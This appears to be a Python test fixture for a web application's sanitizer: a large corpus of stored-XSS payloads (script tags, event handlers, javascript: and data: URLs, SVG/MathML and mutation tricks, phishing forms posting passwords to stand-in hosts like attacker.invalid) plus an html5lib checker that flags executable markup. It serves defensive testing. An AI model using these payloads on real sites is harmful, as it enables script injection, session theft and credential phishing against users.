# ruff: noqa: E501 (a payload reads best whole, on one line)
"""Hostile rich text (issue #8, "Stored-XSS corpus") and a checker that finds
anything executable in HTML, parsed as a browser parses it (html5lib).

Shared with the browser tests, which load the same payloads in Chromium:
`PAYLOADS` is a list of (name, html); `executable_parts(html)` lists what in an
HTML fragment could run script or change where the page sends things.

`BROWSER_PAYLOADS` adds rich text whose script, if it ever ran, sets the sentinel
`window.__xss` (in a frame: `parent.__xss`) or opens a dialog, so a browser can
tell that nothing ran; `TEXT_PAYLOADS` are for plain-text fields (titles, tag
names, event names), which templates must escape, including inside JSON-LD,
attributes and <title>. `all_rich_payloads()` is every rich-text payload.
"""

import json
import re

import html5lib

PAYLOADS = [
    # --- <script>, in every spelling ---
    ("script", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-slash-src", "<script/src=//evil.example/x.js></script>"),
    ("script-spaces", "<script >alert(1)</script >"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-open", "<<script>alert(1)//<</script>"),
    ("script-module", "<script type=\"module\">import('//evil.example/x')</script>"),
    ("script-after-text", "<p>Fine text.</p><script defer>alert(1)</script>"),
    ("script-unclosed", "<p>Text<script>alert(1)"),
    ("script-in-template", "<template><script>alert(1)</script></template>"),
    (
        "script-xhtml-ns",
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>',
    ),
    ("attribute-breakout", '"><script>alert(1)</script>'),
    # --- Event handlers ---
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-upper", '<img src="x" ONERROR="alert(1)">'),
    ("img-onerror-entities", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    ("img-slashes", '<img/src="x"/onerror=alert(1)>'),
    ("img-newline-attr", "<img src=x\nonerror=alert(1)>"),
    ("img-quote-mess", '<img """><script>alert(1)</script>">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("p-onclick", '<p onclick="alert(1)">Click me</p>'),
    ("a-onmouseover", '<a href="https://example.org/" onmouseover="alert(1)">x</a>'),
    ("div-autofocus", "<div onfocus=alert(1) tabindex=0 autofocus>x</div>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    (
        "details-ontoggle",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
    ),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    (
        "figure-class-onclick",
        '<figure class="image" onclick="alert(1)"><img src=x></figure>',
    ),
    (
        "table-background",
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    ),
    ("double-open-img", "<<img src=x onerror=alert(1)//<"),
    # --- javascript:, data:, vbscript: URLs, obfuscated ---
    ("href-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("href-javascript-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("href-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    ("href-tab-entity", '<a href="java&#x09;script:alert(1)">x</a>'),
    ("href-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("href-literal-newline", '<a href="java\nscript:alert(1)">x</a>'),
    (
        "href-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;'
        '&#112;&#116;&#58;alert(1)">x</a>',
    ),  # fmt: skip
    ("href-hex-colon-entity", '<a href="&#x6A;avascript&colon;alert(1)">x</a>'),
    ("href-colon-entity", '<a href="javascript&#58;alert(1)">x</a>'),
    ("href-control-char", '<a href="\x01javascript:alert(1)">x</a>'),
    ("href-js-comment", '<a href="javascript://%0Aalert(1)">x</a>'),
    (
        "href-data-html",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),  # fmt: skip
    (
        "img-data-svg",
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    ),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("href-vbscript-case", '<a href="VBScript:msgbox(1)">x</a>'),
    ("href-livescript", '<a href="livescript:alert(1)">x</a>'),
    ("img-src-javascript", '<img src="javascript:alert(1)">'),
    ("img-srcset-javascript", '<img src="/x.png" srcset="javascript:alert(1) 1x">'),
    ("blockquote-cite", '<blockquote cite="javascript:alert(1)">q</blockquote>'),
    ("q-cite-data", '<q cite="data:text/html,<script>alert(1)</script>">q</q>'),
    # --- SVG and MathML ---
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg-xlink",
        '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    ),  # fmt: skip
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    (
        "svg-set-href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
        "<text y=20>x</text></a></svg>",
    ),  # fmt: skip
    (
        "svg-use-data",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' "
        "xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/>"
        '</svg>#x"></use></svg>',
    ),  # fmt: skip
    (
        "svg-foreignobject",
        '<svg><foreignObject><iframe srcdoc="<script>alert(1)'
        '</script>"></iframe></foreignObject></svg>',
    ),  # fmt: skip
    ("svg-style-import", "<svg><style>@import url(javascript:alert(1))</style></svg>"),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline#" '
        'xlink:href="javascript:alert(1)">x</maction></math>',
    ),  # fmt: skip
    (
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x "
        "onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),  # fmt: skip
    # --- Changing the page's base, refreshing, posting elsewhere ---
    ("base-href", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-csp", '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
    ("meta-charset", '<meta charset="x-imap4-modified-utf7">'),
    (
        "form-phishing",
        '<form action="https://evil.example/steal"><input '
        'name="password" type="password"><button>Log in</button></form>',
    ),  # fmt: skip
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("input-image", '<input type="image" src="x" onerror="alert(1)">'),
    ("isindex", '<isindex action="javascript:alert(1)" type="image">'),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>"),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("applet", '<applet code="Evil.class"></applet>'),
    # --- CSS ---
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-url-javascript", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-element", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-behavior", '<p style="behavior: url(x.htc)">x</p>'),
    (
        "style-moz-binding",
        '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
    ),
    ("style-comment-split", '<img src="/x.png" style="x:expr/**/ession(alert(1))">'),
    # --- Broken nesting, comments, CDATA, raw-text elements ---
    ("comment-script", "<p>text<!-- <script>alert(1)</script> --></p>"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("cdata-then-script", "<p><![CDATA[]]><script>alert(1)</script></p>"),
    ("comment-bang-close", "<!-- --!><script>alert(1)</script> -->"),
    ("stray-close-p", "<p>a</p></p><script>alert(1)</script>"),
    ("table-script", "<table><tr><td><script>alert(1)</script></table>"),
    ("nested-anchors", '<a href="/x"><a href="javascript:alert(1)">nested</a></a>'),
    ("title-attr-breakout", '<p title="</p><script>alert(1)</script>">x</p>'),
    (
        "noscript-mxss",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ),  # fmt: skip
    ("textarea-breakout", "<textarea></textarea><script>alert(1)</script>"),
    ("title-element", "<title><script>alert(1)</script></title>"),
    ("xmp", "<xmp><script>alert(1)</script></xmp>"),
    ("plaintext", "<plaintext><script>alert(1)</script>"),
    ("noembed", "<noembed><img src=x onerror=alert(1)></noembed>"),
    (
        "select-template",
        "<select><template><img src=x onerror=alert(1)></template></select>",
    ),  # fmt: skip
    ("xml-stylesheet-pi", '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>'),
    ("closing-script-in-text", "<p>&lt;/script&gt;&lt;script&gt;alert(1)</p>"),
    ("null-byte-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
]

# Elements that never belong in stored rich text: they run script, load
# active content, restyle the page, or send data (or the reader) elsewhere.
FORBIDDEN_ELEMENTS = {
    "script", "style", "base", "meta", "link", "form", "input", "button",
    "select", "textarea", "isindex", "iframe", "frame", "frameset", "object",
    "embed", "applet", "svg", "math", "template", "noscript", "title",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "background", "poster",
    "cite", "longdesc", "lowsrc", "dynsrc", "srcset", "ping", "codebase",
    "manifest", "icon", "profile", "usemap", "archive", "classid", "code",
}  # fmt: skip
DANGEROUS_SCHEME = re.compile(r"^(?:javascript|vbscript|livescript|data):")
# Browsers ignore these anywhere in a URL's scheme (tab, newline, NUL…).
IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f]+")


def local_name(tag):
    return tag.rsplit("}", 1)[-1].lower() if isinstance(tag, str) else ""


def is_dangerous_url(value):
    candidates = [part.strip().split(" ")[0] for part in value.split(",")]
    for url in [value, *candidates]:
        if DANGEROUS_SCHEME.match(IGNORED_IN_SCHEME.sub("", url).lower()):
            return True
    return False


def describe(element):
    """What an element is, for reports: tag plus the attributes that matter."""
    keys = ("src", "type", "rel", "http-equiv", "name", "property", "action")
    shown = {k: element.get(k) for k in keys if element.get(k) is not None}
    return (local_name(element.tag), tuple(sorted(shown.items())))


def findings(root):
    """Everything executable or page-altering under an html5lib tree: forbidden
    elements, event-handler and style attributes, dangerous URLs."""
    found = []
    for element in root.iter():
        tag = local_name(element.tag)
        if not tag:
            continue  # comments
        if tag in FORBIDDEN_ELEMENTS:
            found.append(("element", *describe(element)))
        for raw_name, value in element.attrib.items():
            name = local_name(raw_name)
            if name.startswith("on"):
                found.append(("handler", tag, name))
            elif name in {"style", "srcdoc"}:
                found.append((name, tag))
            elif name in URL_ATTRIBUTES and is_dangerous_url(value or ""):
                found.append(("url", tag, name))
    return found


def parse_document(html):
    return html5lib.parse(html, namespaceHTMLElements=False)


def executable_parts(html):
    """findings() for an HTML fragment, such as a stored post body, read inside
    a page as the site embeds it (an unclosed tag swallows the markup after it;
    <body onload> lands on the page's own body): for rich text, anything at all
    is too much."""
    page = f"<!DOCTYPE html><head></head><body><div>{html}</div><p>After</p>"
    return findings(parse_document(page))


def page_additions(page_html, baseline_html):
    """What `page_html` has that a page of the same kind with harmless content
    (`baseline_html`) does not: the site's own scripts, meta and link tags are
    on both, so only what the hostile content brought in remains."""
    counts = {}
    for item in findings(parse_document(baseline_html)):
        counts[item] = counts.get(item, 0) + 1
    extra = []
    for item in findings(parse_document(page_html)):
        if counts.get(item):
            counts[item] -= 1
        else:
            extra.append(item)
    return extra


def json_ld_blocks(page_html):
    """The page's JSON-LD, parsed: a payload that broke out of it would make
    the block unparseable or add a script element page_additions() reports."""
    blocks = []
    for element in parse_document(page_html).iter("script"):
        if element.get("type") == "application/ld+json":
            blocks.append(json.loads(element.text or ""))
    return blocks


# --- Payloads that mark their own success, for the browser suite ---------------

SENTINEL = "__xss"

_SCRIPT_TAGS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script type='text/javascript'>window.__xss=1</script>",
    "<script type=module>window.__xss=1</script>",
    '<script src="data:text/javascript,window.__xss=1"></script>',
    '<script/src="data:,window.__xss=1"></script>',
    "<script\x0c>window.__xss=1</script>",
    "<script\n>window.__xss=1</script\n>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<<script>script>window.__xss=1<</script>/script>",
    "<script>alert(1)</script>",
    "<script>confirm(1)</script>",
    "<script>prompt(1)</script>",
    '<svg><script href="data:,window.__xss=1"></script></svg>',
    "<svg><script>window.__xss=1</script></svg>",
]

_EVENT_HANDLERS = [
    "<img src=x onerror=window.__xss=1>",
    '<IMG SRC="x" ONERROR="window.__xss=1">',
    '<img src="x" onerror="&#119;indow.__xss=1">',
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src="x" alt="" onload="window.__xss=1" onmouseover="window.__xss=1">',
    "<body onload=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
    '<div onmouseover="window.__xss=1">hover me</div>',
    '<p onclick="window.__xss=1">click me</p>',
    "<input autofocus onfocus=window.__xss=1>",
    "<select autofocus onfocus=window.__xss=1></select>",
    '<a href="#top" tabindex="1" autofocus onfocus="window.__xss=1">focus</a>',
    "<details open ontoggle=window.__xss=1><summary>x</summary></details>",
    '<video><source onerror="window.__xss=1"></video>',
    "<audio src=x onerror=window.__xss=1></audio>",
    "<iframe onload=window.__xss=1></iframe>",
    "<marquee onstart=window.__xss=1>moving</marquee>",
    "<object data=x onerror=window.__xss=1></object>",
    '<table background="x" onerror="window.__xss=1"><tr><td>cell</td></tr></table>',
    '<h2 onanimationstart="window.__xss=1" style="animation:spin 1s">heading</h2>',
]

_URL_SCHEMES = [
    '<a href="javascript:window.__xss=1">link</a>',
    '<a href="JaVaScRiPt:window.__xss=1">link</a>',
    '<a href=" javascript:window.__xss=1">link</a>',
    '<a href="java&#x09;script:window.__xss=1">link</a>',
    '<a href="java&#10;script:window.__xss=1">link</a>',
    '<a href="jav\tascript:window.__xss=1">link</a>',
    '<a href="\x01javascript:window.__xss=1">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    'window.__xss=1">link</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
    'window.__xss=1">link</a>',
    '<a href="javascript&colon;window.__xss=1">link</a>',
    '<a href="javascript:alert(1)">link</a>',
    '<img src="javascript:window.__xss=1" alt="x">',
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<object data="data:text/html,<script>parent.__xss=1</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=parent.__xss=1>">',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="VBScript:MsgBox(1)">vb</a>',
    '<img src="vbscript:msgbox(1)" alt="x">',
    '<blockquote cite="javascript:window.__xss=1">quote</blockquote>',
]

_SVG_MATHML = [
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">svg</text>'
    "</a></svg>",
    '<svg><a href="javascript:window.__xss=1"><text x="20" y="20">svg</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>",
    '<svg><set attributeName="onmouseover" to="window.__xss=1"/></svg>',
    "<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>",
    "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
    '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">'
    "x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>"
    "</style></mglyph></table></mtext></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img src=x onerror=window.__xss=1>">',
]

_DOCUMENT_HIJACK = [
    '<base href="javascript:window.__xss=1//">',
    '<base href="https://attacker.invalid/">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
    '<meta http-equiv="Content-Security-Policy" '
    "content=\"script-src 'unsafe-inline'\">",
    '<meta http-equiv="set-cookie" content="sessionid=stolen">',
    '<form action="https://attacker.invalid/steal" method="post">'
    '<input name="password" type="password"><input type="submit"></form>',
    '<form action="javascript:window.__xss=1"><button>go</button></form>',
    '<button form="f" formaction="javascript:window.__xss=1">go</button>',
    '<link rel="stylesheet" href="https://attacker.invalid/x.css">',
    '<link rel="import" href="data:text/html,<script>parent.__xss=1</script>">',
]

_CSS = [
    '<div style="width: expression(window.__xss=1)">css expression</div>',
    '<p style="x:expr/**/ession(window.__xss=1)">css expression</p>',
    '<div style="background:url(javascript:window.__xss=1)">css url</div>',
    "<div style=\"background-image:url('javascript:window.__xss=1')\">css url</div>",
    '<div style="behavior: url(x.htc)">css behavior</div>',
    "<style>@import 'javascript:window.__xss=1';</style>",
    '<style>body{background:url("javascript:window.__xss=1")}</style>',
    "<style>*{display:none}</style>",
]

_BROKEN_MARKUP = [
    "<p><b><i>unclosed <img src=x onerror=window.__xss=1",
    '<a href="https://example.org/"<img src=x onerror=window.__xss=1>',
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    "</p></div></article></main><script>window.__xss=1</script>",
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    "<!-- --!><img src=x onerror=window.__xss=1> -->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<svg><![CDATA[><img src=x onerror=window.__xss=1>]]></svg>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
    "<title><img src=x onerror=window.__xss=1></title>",
    "<textarea><img src=x onerror=window.__xss=1></textarea>",
    "<template><img src=x onerror=window.__xss=1></template>",
    "<xmp><img src=x onerror=window.__xss=1></xmp>",
    "<table><td><img src=x onerror=window.__xss=1></table>",
    "<listing><img src=x onerror=window.__xss=1></listing>",
    '<a href="https://example.org/" title="&quot;&gt;&lt;script&gt;window.__xss=1'
    '&lt;/script&gt;">encoded in an attribute</a>',
    "<p>&lt;script&gt;window.__xss=1&lt;/script&gt;</p>",
]

BROWSER_PAYLOADS = (
    _SCRIPT_TAGS
    + _EVENT_HANDLERS
    + _URL_SCHEMES
    + _SVG_MATHML
    + _DOCUMENT_HIJACK
    + _CSS
    + _BROKEN_MARKUP
)

TEXT_PAYLOADS = [
    "</title><script>window.__xss=1</script>",
    '"><img src=x onerror=window.__xss=1>',
    "'><svg onload=window.__xss=1>",
    "</script><script>window.__xss=1</script>",
    "<!--</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7|add:7 }} {% now 'Y' %}",
]


def all_rich_payloads():
    """Every rich-text payload, as plain strings."""
    return [html for _, html in PAYLOADS] + list(BROWSER_PAYLOADS)
